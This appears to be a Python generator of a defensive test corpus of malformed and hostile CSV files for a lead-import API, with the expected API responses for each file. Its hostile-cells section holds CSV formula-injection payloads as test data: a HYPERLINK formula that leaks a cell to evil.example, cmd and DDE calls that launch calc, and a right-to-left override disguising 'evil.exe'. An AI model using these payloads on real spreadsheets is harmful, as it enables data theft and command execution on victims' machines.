"""Generate the bad-input corpus: hostile and odd CSV files plus ``expected.json``.

    python -m tests.data.generate [--out DIR]      # default: tests/data/corpus/ (git-ignored)

Every file is built here from code, deterministically (no clock, no unseeded randomness): the
same generator always writes the same bytes, and no data file is ever committed.

``expected.json`` maps each file name to what the API must answer for it:

* rejected by ``POST /leads/import/preview``: ``{"status": 400|413|415, "code": "<error code>"}``;
* accepted: ``{"status": 200, "row_count": N, "start": {start body without file_id},
  "job": {"total_rows", "created_count", "updated_count", "failed_count", "errors": [...]}}``
  where ``errors`` are the job detail's exact ``{"row", "error", "value"}`` items in row order.

Optional keys of accepted files: ``upload_name`` (the name sent instead of the file name),
``file_name`` (the name the preview must report), ``headers`` and ``sample_rows`` (exact
preview values), ``start_error`` (``{"status", "code"}``: start must refuse the file, no job
is created), ``job.warnings`` (exact alias warnings; none when absent) and ``leads`` (lookups
``{"lookup": {kind: value}, "fields": {...}}``: exactly one lead with exactly these fields).

Row numbers are what a spreadsheet shows: the header is row 1, the first data row row 2, a
quoted multi-line cell is one row, blank rows are skipped but keep their number. Ragged rows:
missing cells are empty, cells beyond the header are ignored (docs/api.md, "Files").
"""

from __future__ import annotations

import argparse
import csv
import gzip
import io
import json
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

DEFAULT_OUT = Path(__file__).resolve().parent / "corpus"
MANIFEST = "expected.json"
MIB = 1024 * 1024
LIMIT = 10 * MIB  # the upload limit: 10 x 1024 x 1024 bytes

MISSING = "Missing required identifier"
INVALID_EMAIL = "Invalid email format"
INVALID_PHONE = "Invalid phone format"
INVALID_IDENTIFIER = "Invalid identifier format"

INVALID_CSV = (400, "invalid_csv")
TOO_LARGE = (413, "file_too_large")
NOT_CSV = (415, "unsupported_media_type")


@dataclass(frozen=True)
class Case:
    name: str
    about: str
    build: Callable[[], bytes]
    expect: dict[str, Any]


# --- building blocks ----------------------------------------------------------------------


def table(
    header: Sequence[str],
    rows: Sequence[Sequence[str]],
    *,
    delimiter: str = ",",
    eol: str = "\r\n",
) -> str:
    """CSV text as a spreadsheet writes it (minimal quoting)."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator=eol)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


def utf8(text: str) -> Callable[[], bytes]:
    return lambda: text.encode()


def raw(data: bytes) -> Callable[[], bytes]:
    return lambda: data


def rejected(status_code: tuple[int, str]) -> dict[str, Any]:
    status, code = status_code
    return {"status": status, "code": code}


def by(
    column: str = "Email",
    kind: str = "email",
    fields: dict[str, str] | None = None,
    aliases: dict[str, str] | None = None,
    **extra: Any,
) -> dict[str, Any]:
    """A start body (without ``file_id``)."""
    body: dict[str, Any] = {"primary_identifier": {"column": column, "kind": kind}}
    if fields:
        body["field_mappings"] = fields
    if aliases:
        body["alias_mappings"] = aliases
    return {**body, **extra}


def error(row: int, message: str, value: str) -> dict[str, Any]:
    return {"row": row, "error": message, "value": value}


def job(
    total: int,
    created: int,
    updated: int = 0,
    errors: Sequence[dict[str, Any]] = (),
    warnings: Sequence[dict[str, Any]] | None = None,
) -> dict[str, Any]:
    result: dict[str, Any] = {
        "total_rows": total,
        "created_count": created,
        "updated_count": updated,
        "failed_count": len(errors),
        "errors": list(errors),
    }
    if warnings is not None:
        result["warnings"] = list(warnings)
    return result


def lead(fields: dict[str, str], **lookup: str) -> dict[str, Any]:
    return {"lookup": lookup, "fields": fields}


def imported(
    row_count: int,
    start: dict[str, Any],
    job_expect: dict[str, Any] | None,
    *,
    headers: list[str] | None = None,
    sample_rows: list[list[str]] | None = None,
    leads: Sequence[dict[str, Any]] = (),
    **extra: Any,
) -> dict[str, Any]:
    expect: dict[str, Any] = {"status": 200, "row_count": row_count}
    if headers is not None:
        expect["headers"] = headers
    if sample_rows is not None:
        expect["sample_rows"] = sample_rows
    expect["start"] = start
    if job_expect is not None:
        expect["job"] = job_expect
    if leads:
        expect["leads"] = list(leads)
    expect.update(extra)
    return expect


def zip_of(files: dict[str, bytes]) -> bytes:
    """A ZIP archive with fixed timestamps (deterministic bytes)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, content)
    return buffer.getvalue()


def png_1x1() -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body))
            + kind
            + body
            + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)
        )

    header = struct.pack(">IIBBBBB", 1, 1, 8, 6, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00\xff")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def sized(prefix: bytes, size: int, filler: bytes = b"N", end: bytes = b"\n") -> bytes:
    """``prefix`` + filler + ``end``, exactly ``size`` bytes."""
    data = prefix + filler * (size - len(prefix) - len(end)) + end
    assert len(data) == size
    return data


LEADS = "Email,First Name,Last Name,Company\r\n" + (
    "jane@example.com,Jane,Doe,Example Inc\r\njohn@example.com,John,Smith,Acme Corp\r\n"
)
XLSX = zip_of({
    "[Content_Types].xml": b'<?xml version="1.0" encoding="UTF-8"?><Types/>',
    "_rels/.rels": b'<?xml version="1.0" encoding="UTF-8"?><Relationships/>',
    "xl/workbook.xml": b'<?xml version="1.0" encoding="UTF-8"?><workbook/>',
    "xl/worksheets/sheet1.xml": b'<?xml version="1.0" encoding="UTF-8"?><worksheet/>',
})  # fmt: skip


# --- rejected at preview -------------------------------------------------------------------

REJECTED: list[Case] = [
    Case("empty.csv", "zero bytes", raw(b""), rejected(INVALID_CSV)),
    Case(
        "blank_rows_only.csv",
        "blank lines and rows of empty cells, no header",
        raw(b"\r\n\n,,,\n , , \n\t\n"),
        rejected(INVALID_CSV),
    ),
    Case(
        "utf8_bom_only.csv",
        "a UTF-8 BOM and nothing else",
        raw(b"\xef\xbb\xbf"),
        rejected(INVALID_CSV),
    ),
    Case(
        "utf16_bom_blank.csv",
        "UTF-16 BOM followed by line breaks only",
        raw("\r\n\r\n".encode("utf-16")),
        rejected(INVALID_CSV),
    ),
    Case(
        "unbalanced_quote.csv",
        "a quoted field that never ends",
        utf8('Email,First Name\n"jane@example.com,Jane\njohn@example.com,John\n'),
        rejected(INVALID_CSV),
    ),
    Case(
        "text_after_closing_quote.csv",
        'a closing quote followed by text ("x"y)',
        utf8('Email,First Name\n"jane@example.com"x,Jane\n'),
        rejected(INVALID_CSV),
    ),
    Case(
        "duplicate_headers.csv",
        "the same column name twice",
        utf8("Email,First Name,Email\njane@example.com,Jane,j@example.com\n"),
        rejected(INVALID_CSV),
    ),
    Case(
        "duplicate_headers_case_space.csv",
        "column names equal after trimming and case folding",
        utf8("Email,First Name, EMAIL \njane@example.com,Jane,j@example.com\n"),
        rejected(INVALID_CSV),
    ),
    Case(
        "blank_header.csv",
        "an empty column name between two named ones",
        utf8("Email,,First Name\njane@example.com,x,Jane\n"),
        rejected(INVALID_CSV),
    ),
    Case(
        "whitespace_header.csv",
        "a column name of spaces only",
        utf8("Email,   ,First Name\njane@example.com,x,Jane\n"),
        rejected(INVALID_CSV),
    ),
    Case(
        "trailing_delimiter_header.csv",
        "a header ending in a delimiter (an unnamed last column)",
        utf8("Email,First Name,\njane@example.com,Jane,\n"),
        rejected(INVALID_CSV),
    ),
    Case(
        "undecodable_cp1252.csv",
        "bytes that are neither UTF-8 nor Windows-1252 (0x81 0x8d 0x90)",
        raw(b"Email,First Name\njane@example.com,\x81\x8d\x90\n"),
        rejected(INVALID_CSV),
    ),
    Case(
        "undecodable_after_utf8_bom.csv",
        "a UTF-8 BOM, then a Latin-1 byte",
        raw(b"\xef\xbb\xbfEmail,First Name\njane@example.com,Ren\xe9e\n"),
        rejected(INVALID_CSV),
    ),
    Case(
        "utf16_truncated.csv",
        "UTF-16 with BOM and an odd number of bytes",
        raw("Email,First Name\njane@example.com,Jane\n".encode("utf-16") + b"a"),
        rejected(INVALID_CSV),
    ),
    Case(
        "over_limit.csv",
        "10 MiB + 1 byte of valid CSV",
        lambda: sized(
            b"Email,Notes\n" + b"".join(b"user%07d@example.com,N\n" % i for i in range(1000)),
            LIMIT + 1,
        ),
        rejected(TOO_LARGE),
    ),
    Case(
        "nul_bytes.csv",
        "a NUL byte inside a cell",
        raw(b"Email,First Name\njane@example.com,Ja\x00ne\n"),
        rejected(NOT_CSV),
    ),
    Case(
        "utf16_nul_in_header.csv",
        "UTF-16 with BOM whose header holds U+0000 (NUL bytes are normal in UTF-16, NUL text not)",
        raw("Email,Na\x00me\njane@example.com,Jane\n".encode("utf-16")),
        rejected(NOT_CSV),
    ),
    Case(
        "utf16_nul_in_cell.csv",
        "UTF-16 with BOM, U+0000 inside an e-mail cell: no row may carry it to the database",
        raw("Email,Name\nja\x00ne@example.com,Jane\njohn@example.com,John\n".encode("utf-16")),
        rejected(NOT_CSV),
    ),
    Case(
        "control_characters.csv",
        "binary junk without NUL bytes: mostly control characters",
        raw(bytes(range(1, 32)) * 64 + b"Email\n"),
        rejected(NOT_CSV),
    ),
    Case(
        "zip_content.csv",
        "a ZIP archive holding a CSV",
        lambda: zip_of({"leads.csv": LEADS.encode()}),
        rejected(NOT_CSV),
    ),
    Case("xlsx_content.csv", "an Excel workbook renamed .csv", raw(XLSX), rejected(NOT_CSV)),
    Case(
        "gzip_content.csv",
        "a gzipped CSV",
        lambda: gzip.compress(LEADS.encode(), mtime=0),
        rejected(NOT_CSV),
    ),
    Case(
        "pdf_content.csv",
        "a PDF document",
        raw(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n"),
        rejected(NOT_CSV),
    ),
    Case("png_content.csv", "a PNG image", png_1x1, rejected(NOT_CSV)),
    Case(
        "jpeg_content.csv",
        "a JPEG image",
        raw(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"),
        rejected(NOT_CSV),
    ),
    Case(
        "xls_ole_content.csv",
        "an old binary Excel (OLE compound document)",
        raw(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504),
        rejected(NOT_CSV),
    ),
]


# --- accepted: encodings, delimiters, line endings ------------------------------------------

EMAIL_FIRST = by(fields={"First Name": "first_name"})
TWO = [["jane@example.com", "Jane"], ["john@example.com", "John"]]
TWO_LEADS = [
    lead({"first_name": "Jane"}, email="jane@example.com"),
    lead({"first_name": "John"}, email="john@example.com"),
]

ENCODINGS: list[Case] = [
    Case(
        "utf16le_without_bom.csv",
        "UTF-16 LE without a BOM: recognised by its NUL bytes, all on odd positions",
        raw(LEADS.encode("utf-16-le")),
        imported(
            2,
            EMAIL_FIRST,
            job(2, 2),
            headers=["Email", "First Name", "Last Name", "Company"],
            leads=TWO_LEADS,
        ),
    ),
    Case(
        "header_only.csv",
        "a header row and no data rows: a job of 0 rows that completes",
        utf8("Email,First Name\r\n"),
        imported(0, EMAIL_FIRST, job(0, 0), headers=["Email", "First Name"], sample_rows=[]),
    ),
    Case(
        "utf8_bom.csv",
        "UTF-8 with BOM: the BOM is not part of the first column name",
        utf8("\ufeffEmail,First Name\r\njane@example.com,Jane\r\njohn@example.com,John\r\n"),
        imported(
            2,
            EMAIL_FIRST,
            job(2, 2),
            headers=["Email", "First Name"],
            sample_rows=TWO,
            leads=TWO_LEADS,
        ),
    ),
    Case(
        "utf16le_bom_tab.csv",
        'UTF-16 LE with BOM, tab-separated (Excel "Unicode text")',
        raw(
            b"\xff\xfe"
            + "Email\tFirst Name\tCity\r\njane@example.com\tZoë\t東京\r\n"
            "john@example.com\tJürgen\tKöln\r\n".encode("utf-16-le")
        ),
        imported(
            2,
            by(fields={"First Name": "first_name", "City": "city"}),
            job(2, 2),
            headers=["Email", "First Name", "City"],
            sample_rows=[
                ["jane@example.com", "Zoë", "東京"],
                ["john@example.com", "Jürgen", "Köln"],
            ],
            leads=[
                lead({"first_name": "Zoë", "city": "東京"}, email="jane@example.com"),
                lead({"first_name": "Jürgen", "city": "Köln"}, email="john@example.com"),
            ],
        ),
    ),
    Case(
        "utf16be_bom.csv",
        "UTF-16 BE with BOM, comma-separated",
        raw(
            b"\xfe\xff"
            + "Email,First Name\njane@example.com,Åsa\njohn@example.com,Øyvind\n".encode(
                "utf-16-be"
            )
        ),
        imported(
            2,
            EMAIL_FIRST,
            job(2, 2),
            headers=["Email", "First Name"],
            sample_rows=[["jane@example.com", "Åsa"], ["john@example.com", "Øyvind"]],
            leads=[
                lead({"first_name": "Åsa"}, email="jane@example.com"),
                lead({"first_name": "Øyvind"}, email="john@example.com"),
            ],
        ),
    ),
    Case(
        "windows_1252_semicolon.csv",
        "Windows-1252 (German Excel): ; delimiter, é ü €, curly quotes, en dash",
        raw(
            "Email;First Name;Company;Annual Revenue\r\n"
            "jane@example.com;Renée;Müller & Söhne \u2013 “Bau”;€ 1.234,56\r\n"
            "john@example.com;Jürgen;Café Größe;\r\n".encode("cp1252")
        ),
        imported(
            2,
            by(
                fields={
                    "First Name": "first_name",
                    "Company": "company",
                    "Annual Revenue": "annual_revenue",
                }
            ),
            job(2, 2),
            headers=["Email", "First Name", "Company", "Annual Revenue"],
            sample_rows=[
                ["jane@example.com", "Renée", "Müller & Söhne \u2013 “Bau”", "€ 1.234,56"],
                ["john@example.com", "Jürgen", "Café Größe", ""],
            ],
            leads=[
                lead(
                    {
                        "first_name": "Renée",
                        "company": "Müller & Söhne \u2013 “Bau”",
                        "annual_revenue": "€ 1.234,56",
                    },
                    email="jane@example.com",
                ),
                lead({"first_name": "Jürgen", "company": "Café Größe"}, email="john@example.com"),
            ],
        ),
    ),
    Case(
        "semicolon_commas_in_values.csv",
        "; delimiter with commas inside the values",
        utf8(
            "Email;Company;Notes\n"
            "jane@example.com;Acme, Inc.;met at booth 5, wants a demo\n"
            "john@example.com;Smith, Jones & Co;\n"
        ),
        imported(
            2,
            by(fields={"Company": "company", "Notes": "notes"}),
            job(2, 2),
            headers=["Email", "Company", "Notes"],
            sample_rows=[
                ["jane@example.com", "Acme, Inc.", "met at booth 5, wants a demo"],
                ["john@example.com", "Smith, Jones & Co", ""],
            ],
            leads=[
                lead(
                    {"company": "Acme, Inc.", "notes": "met at booth 5, wants a demo"},
                    email="jane@example.com",
                ),
                lead({"company": "Smith, Jones & Co"}, email="john@example.com"),
            ],
        ),
    ),
    Case(
        "tab_delimited.csv",
        "tab delimiter with commas, semicolons and pipes inside the values",
        utf8(
            "Email\tFirst Name\tNotes\n"
            "jane@example.com\tJane\ta, b; c | d\n"
            "not-an-email\tNobody\tx,y\n"
            "john@example.com\tJohn\t\n"
        ),
        imported(
            3,
            by(fields={"First Name": "first_name", "Notes": "notes"}),
            job(3, 2, errors=[error(3, INVALID_EMAIL, "not-an-email")]),
            headers=["Email", "First Name", "Notes"],
            leads=[
                lead({"first_name": "Jane", "notes": "a, b; c | d"}, email="jane@example.com"),
                lead({"first_name": "John"}, email="john@example.com"),
            ],
        ),
    ),
    Case(
        "pipe_delimited.csv",
        "| delimiter",
        utf8("Email|First Name\njane@example.com|Jane\njohn@example.com|John\n"),
        imported(
            2,
            EMAIL_FIRST,
            job(2, 2),
            headers=["Email", "First Name"],
            sample_rows=TWO,
            leads=TWO_LEADS,
        ),
    ),
    Case(
        "cr_only_line_endings.csv",
        "classic Mac CR-only line endings, no line break at the end",
        utf8(
            'Email,First Name\rjane@example.com,Jane\rbroken@,Broken\rjohn@example.com,"John\rJr."'
        ),
        imported(
            3,
            EMAIL_FIRST,
            job(3, 2, errors=[error(3, INVALID_EMAIL, "broken@")]),
            headers=["Email", "First Name"],
            sample_rows=[
                ["jane@example.com", "Jane"],
                ["broken@", "Broken"],
                ["john@example.com", "John\rJr."],
            ],
            leads=[
                lead({"first_name": "Jane"}, email="jane@example.com"),
                lead({"first_name": "John\rJr."}, email="john@example.com"),
            ],
        ),
    ),
    Case(
        "mixed_line_endings.csv",
        "CRLF, LF and CR in one file",
        utf8(
            "Email,First Name\r\n"
            "jane@example.com,Jane\n"
            "john@example.com,John\r"
            "ann@example.com,Ann\r\n"
            "nope,Nope\n"
            "bob@example.com,Bob\r"
        ),
        imported(
            5,
            EMAIL_FIRST,
            job(5, 4, errors=[error(5, INVALID_EMAIL, "nope")]),
            headers=["Email", "First Name"],
            leads=[
                lead({"first_name": "Ann"}, email="ann@example.com"),
                lead({"first_name": "Bob"}, email="bob@example.com"),
            ],
        ),
    ),
]


# --- accepted: CSV structure -----------------------------------------------------------------

STRUCTURE: list[Case] = [
    Case(
        "quoted_newlines.csv",
        "a quoted cell spanning three lines is ONE row: later row numbers do not shift",
        utf8(
            "Email,First Name,Notes\r\n"
            'jane@example.com,Jane,"line one\nline two\r\nline three"\r\n'
            'not-an-email,Nobody,"a\n\nb"\r\n'
            "john@example.com,John,single\r\n"
        ),
        imported(
            3,
            by(fields={"First Name": "first_name", "Notes": "notes"}),
            job(3, 2, errors=[error(3, INVALID_EMAIL, "not-an-email")]),
            sample_rows=[
                ["jane@example.com", "Jane", "line one\nline two\r\nline three"],
                ["not-an-email", "Nobody", "a\n\nb"],
                ["john@example.com", "John", "single"],
            ],
            leads=[
                lead(
                    {"first_name": "Jane", "notes": "line one\nline two\r\nline three"},
                    email="jane@example.com",
                ),
            ],
        ),
    ),
    Case(
        "quotes_escaped_and_stray.csv",
        'doubled quotes inside quoted cells, a stray quote inside an unquoted cell (O"Brien)',
        utf8(
            '"Email","First Name","Notes"\n'
            '"jane@example.com","Jane","She said ""hi"", then left"\n'
            'john@example.com,O"Brien,5\'11"\n'
            '"","",""\n'
        ),
        imported(
            2,
            by(fields={"First Name": "first_name", "Notes": "notes"}),
            job(2, 2),
            headers=["Email", "First Name", "Notes"],
            sample_rows=[
                ["jane@example.com", "Jane", 'She said "hi", then left'],
                ["john@example.com", 'O"Brien', "5'11\""],
            ],
            leads=[
                lead(
                    {"first_name": "Jane", "notes": 'She said "hi", then left'},
                    email="jane@example.com",
                ),
                lead({"first_name": 'O"Brien', "notes": "5'11\""}, email="john@example.com"),
            ],
        ),
    ),
    Case(
        "quoted_header_names.csv",
        "quoted header names holding the delimiter; header names are trimmed",
        utf8('" Email ","Name, Full","Notes; misc"\njane@example.com,"Doe, Jane",x\n'),
        imported(
            1,
            by(fields={"Name, Full": "full_name", "Notes; misc": "notes"}),
            job(1, 1),
            headers=["Email", "Name, Full", "Notes; misc"],
            sample_rows=[["jane@example.com", "Doe, Jane", "x"]],
            leads=[lead({"full_name": "Doe, Jane", "notes": "x"}, email="jane@example.com")],
        ),
    ),
    Case(
        "header_padding_case_insensitive.csv",
        "padded header names; start names columns in another case",
        utf8(" EMAIL ,  First Name \n Jane@Example.com , Jane \n"),
        imported(
            1,
            by(column="email", fields={"first name": "First_Name"}),
            job(1, 1),
            headers=["EMAIL", "First Name"],
            sample_rows=[[" Jane@Example.com ", " Jane "]],
            leads=[lead({"first_name": "Jane"}, email="jane@example.com")],
        ),
    ),
    Case(
        "single_column.csv",
        "one column only (no delimiter at all), a blank line in between",
        utf8("Email\njane@example.com\n\njohn@example.com\n"),
        imported(
            2,
            by(),
            job(2, 2),
            headers=["Email"],
            sample_rows=[["jane@example.com"], ["john@example.com"]],
        ),
    ),
    Case(
        "blank_rows_before_and_between.csv",
        "blank rows before the header and between data rows keep their row numbers",
        utf8(
            "\n,,\n"
            "Email,First Name,Company\n"
            "jane@example.com,Jane,Acme\n"
            "\n"
            ",,\n"
            "nobody,No,Body\n"
            "john@example.com,John,\n"
        ),
        imported(
            3,
            by(fields={"First Name": "first_name", "Company": "company"}),
            job(3, 2, errors=[error(7, INVALID_EMAIL, "nobody")]),
            headers=["Email", "First Name", "Company"],
            sample_rows=[
                ["jane@example.com", "Jane", "Acme"],
                ["nobody", "No", "Body"],
                ["john@example.com", "John", ""],
            ],
        ),
    ),
    Case(
        "trailing_empty_rows.csv",
        "trailing blank lines, rows of empty / quoted-empty / space cells: not rows",
        utf8(
            "Email,First Name\r\n"
            "jane@example.com,Jane\r\n"
            "john@example.com,John\r\n"
            '\r\n,\r\n , \r\n"",""\r\n\r\n\r\n'
        ),
        imported(
            2,
            EMAIL_FIRST,
            job(2, 2),
            headers=["Email", "First Name"],
            sample_rows=TWO,
            leads=TWO_LEADS,
        ),
    ),
    Case(
        "ragged_rows.csv",
        "rows with fewer cells (missing = empty) and more cells (extra ignored)",
        utf8(
            "Email,First Name,Company\n"
            "ann@example.com,Ann\n"
            "bob@example.com,Bob,Acme,EXTRA,MORE\n"
            "carl@example.com\n"
            "dan@example.com,Dan,Dan Co,,,,,\n"
        ),
        imported(
            4,
            by(fields={"First Name": "first_name", "Company": "company"}),
            job(4, 4),
            headers=["Email", "First Name", "Company"],
            sample_rows=[
                ["ann@example.com", "Ann", ""],
                ["bob@example.com", "Bob", "Acme"],
                ["carl@example.com", "", ""],
                ["dan@example.com", "Dan", "Dan Co"],
            ],
            leads=[
                lead({"first_name": "Ann"}, email="ann@example.com"),
                lead({"first_name": "Bob", "company": "Acme"}, email="bob@example.com"),
                lead({}, email="carl@example.com"),
                lead({"first_name": "Dan", "company": "Dan Co"}, email="dan@example.com"),
            ],
        ),
    ),
    Case(
        "ragged_identifier_missing.csv",
        "the identifier is the last column and a short row has no cell for it",
        utf8("First Name,Company,Email\nAnn,Acme\nBob,Bob Co,bob@example.com,extra\n"),
        imported(
            2,
            by(fields={"First Name": "first_name", "Company": "company"}),
            job(2, 1, errors=[error(2, MISSING, "")]),
            sample_rows=[["Ann", "Acme", ""], ["Bob", "Bob Co", "bob@example.com"]],
            leads=[lead({"first_name": "Bob", "company": "Bob Co"}, email="bob@example.com")],
        ),
    ),
    Case(
        "unicode_line_separators.csv",
        "U+2028, U+2029 and NEL (U+0085) inside cells are text, not line breaks",
        utf8(
            "Email,Notes\n"
            "jane@example.com,one\u2028two\u2029three\u0085four\n"
            "john@example.com,plain\n"
        ),
        imported(
            2,
            by(fields={"Notes": "notes"}),
            job(2, 2),
            sample_rows=[
                ["jane@example.com", "one\u2028two\u2029three\u0085four"],
                ["john@example.com", "plain"],
            ],
            leads=[lead({"notes": "one\u2028two\u2029three\u0085four"}, email="jane@example.com")],
        ),
    ),
    Case(
        "dos_eof_marker.csv",
        "a DOS end-of-file marker (Ctrl-Z, 0x1a) after the last line is not a data row",
        raw(b"Email,First Name\r\njane@example.com,Jane\r\njohn@example.com,John\r\n\x1a"),
        imported(
            2,
            EMAIL_FIRST,
            job(2, 2),
            headers=["Email", "First Name"],
            sample_rows=TWO,
            leads=TWO_LEADS,
        ),
    ),
    Case(
        "headerless_data.csv",
        "no header row: the first data row becomes the header, so start cannot find 'Email'",
        utf8("jane@example.com,Jane\njohn@example.com,John\n"),
        imported(
            1,
            by(),
            None,
            headers=["jane@example.com", "Jane"],
            sample_rows=[["john@example.com", "John"]],
            start_error={"status": 400, "code": "invalid_request"},
        ),
    ),
    Case(
        "path_in_file_name.csv",
        "the upload's file name carries a Windows path and an emoji: only the base name is kept",
        utf8("Email\njane@example.com\n"),
        imported(
            1,
            by(),
            job(1, 1),
            upload_name="C:\\Users\\me\\..\\Downloads\\leads 📇.csv",
            file_name="leads 📇.csv",
        ),
    ),
]


# --- accepted: sizes -------------------------------------------------------------------------


CELL_LIMIT = 128 * 1024  # characters in one cell (domain/csvfile.py MAX_CELL_CHARS)
COLUMN_LIMIT = 1000  # columns in the header (MAX_COLUMNS)


def _exactly_limit() -> bytes:
    """Two data rows, then blank rows of spaces (a cell at most at the cell limit) up to
    exactly the upload limit."""
    head = b"Email,First Name,Notes\njane@example.com,Jane,short\njohn@example.com,John,short\n"
    blank = b" " * (CELL_LIMIT - 1) + b"\n"
    count, rest = divmod(LIMIT - len(head), len(blank))
    return head + blank * count + b" " * (rest - 1) + b"\n"


def _big_field(size: int, char: str = "x") -> Callable[[], bytes]:
    cell = (char * size).encode()
    return lambda: b"Email,Notes\njane@example.com," + cell + b"\njohn@example.com,short\n"


BIG_FIELDS = [f"Field {i}" for i in range(1, 13)]
BIG_TARGETS = ["first_name", "last_name", "company", "title", "department", "industry",
               "address", "address2", "city", "state", "country", "notes"]  # fmt: skip


def _row_too_large() -> bytes:
    """Twelve mapped cells at the cell limit, of 3-byte characters: 4.5 MiB of fields, over
    what one row may carry (about 3.9 MiB); the next row is small."""
    cell = "漢" * CELL_LIMIT
    rows = [["jane@example.com", *([cell] * 12)], ["john@example.com", *(["short"] * 12)]]
    return table(["Email", *BIG_FIELDS], rows).encode()


COLUMNS = ["Email", *(f"Column {i}" for i in range(2, COLUMN_LIMIT)), "First Name"]


def _five_thousand_columns() -> bytes:
    header = ["Email", *(f"Column {i}" for i in range(2, 5000)), "First Name"]
    return table(header, [[f"r2c{i}" for i in range(1, 5001)]]).encode()


def _thousand_columns() -> bytes:
    def full(email: str, first: str, row: int) -> list[str]:
        return [email, *(f"r{row}c{i}" for i in range(2, COLUMN_LIMIT)), first]

    rows = [
        full("jane@example.com", "Jane", 2),
        ["john@example.com", "r3c2"],  # ragged: the other 998 cells are empty
        full("not an email", "Nobody", 4),
    ]
    return table(COLUMNS, rows).encode()


SIZES: list[Case] = [
    Case(
        "exactly_10mib.csv",
        "exactly 10 MiB (the limit itself): two rows, then blank rows of spaces",
        _exactly_limit,
        imported(
            2, EMAIL_FIRST, job(2, 2), headers=["Email", "First Name", "Notes"], leads=TWO_LEADS
        ),
    ),
    Case(
        "cell_at_limit.csv",
        "a cell of 131,072 characters (the limit), mapped to notes",
        _big_field(CELL_LIMIT),
        imported(
            2,
            by(fields={"Notes": "notes"}),
            job(2, 2),
            headers=["Email", "Notes"],
            leads=[
                lead({"notes": "x" * CELL_LIMIT}, email="jane@example.com"),
                lead({"notes": "short"}, email="john@example.com"),
            ],
        ),
    ),
    Case(
        "cell_over_limit.csv",
        "a cell of 131,073 characters (2-byte ones): over the limit of one cell",
        _big_field(CELL_LIMIT + 1, "é"),
        rejected(INVALID_CSV),
    ),
    Case(
        "five_mib_field.csv",
        "a single 5 MiB cell: over the limit of one cell",
        _big_field(5 * MIB),
        rejected(INVALID_CSV),
    ),
    Case(
        "row_too_large.csv",
        "twelve mapped cells at the cell limit, 4.5 MiB in all: that row fails as too large, "
        "the rest imports",
        _row_too_large,
        imported(
            2,
            by(fields=dict(zip(BIG_FIELDS, BIG_TARGETS, strict=True))),
            job(2, 1, errors=[error(2, "Row too large", "jane@example.com")]),
            headers=["Email", *BIG_FIELDS],
            leads=[lead(dict.fromkeys(BIG_TARGETS, "short"), email="john@example.com")],
        ),
    ),
    Case(
        "five_thousand_columns.csv",
        "5,000 columns: over the limit of 1,000",
        _five_thousand_columns,
        rejected(INVALID_CSV),
    ),
    Case(
        "thousand_columns.csv",
        "1,000 columns (the limit); the last one and one in the middle are mapped",
        _thousand_columns,
        imported(
            3,
            by(fields={"First Name": "first_name", "Column 500": "notes"}),
            job(3, 2, errors=[error(4, INVALID_EMAIL, "not an email")]),
            headers=COLUMNS,
            leads=[
                lead({"first_name": "Jane", "notes": "r2c500"}, email="jane@example.com"),
                lead({}, email="john@example.com"),
            ],
        ),
    ),
]


# --- accepted: hostile cells -----------------------------------------------------------------

FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "cmd": "+cmd|' /C calc'!A0",
    "arith": "-1+1",
    "sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "dde": '=DDE("cmd";"/C calc";"!A0")',
}


def _formulas() -> bytes:
    f = FORMULAS
    rows = [
        ["jane@example.com", f["hyperlink"], f["cmd"], f["arith"], f["sum"]],
        ["john@example.com", f["dde"], "=1+1", "\t=2+2", "'=3+3"],
        ['=HYPERLINK("mailto:x@example.com")', "x", "", "", ""],
        ["-1+1", "x", "", "", ""],
        ["@SUM(A1:A2)", "x", "", "", ""],
        ["+15550100", "x", "", "", ""],
    ]
    return table(["Email", "Company", "Title", "Notes", "Website"], rows).encode()


def _emoji_rtl() -> bytes:
    rows = [
        [
            "jane@example.com",
            "👩🏽‍💻 Jane",
            "O\u2019Brien 🚀",
            "شركة الأمل",
            "\u202eevil.exe\u202c ok",
        ],
        ["david@example.com", "דוד", "כהן", "\u200fחברה בע״מ\u200e", "שלום world 123"],
        ["josé@example.com", "José", "Núñez", "🏳️‍🌈 Co", "zero\u200bwidth"],
    ]
    header = ["Email", "First Name", "Last Name", "Company", "Notes"]
    return table(header, rows).encode()


PLACEHOLDERS = ["null", "N/A", "none", "-", " NULL ", "#N/A", "(blank)", "TBD", "?", "unknown"]
PLACEHOLDERS += ["nan", "--"]


def _placeholders() -> bytes:
    rows = [[value, f"Person {i}"] for i, value in enumerate(PLACEHOLDERS)]
    rows.append(["real@example.com", "Real"])
    return table(["Email", "First Name"], rows).encode()


INVALID_EMAILS = [
    "not-an-email",
    "jane@",
    "@example.com",
    "jane@@example.com",
    "jane doe@example.com",
    "jane@example",
    "jane..doe@example.com",
    "jane@example.com.",
    "Jane Doe <jane@example.com>",
    "mailto:jane@example.com",
    "jane@localhost",
    "a" * 250 + "@example.com",
]


def _invalid_emails() -> bytes:
    rows = [[value, "x"] for value in INVALID_EMAILS]
    rows.insert(3, ["valid@example.com", "Valid"])
    return table(["Email", "First Name"], rows).encode()


def _invalid_emails_expect() -> dict[str, Any]:
    errors = []
    row = 2
    for i, value in enumerate(INVALID_EMAILS):
        if i == 3:
            row += 1  # the valid row
        errors.append(error(row, INVALID_EMAIL, value))
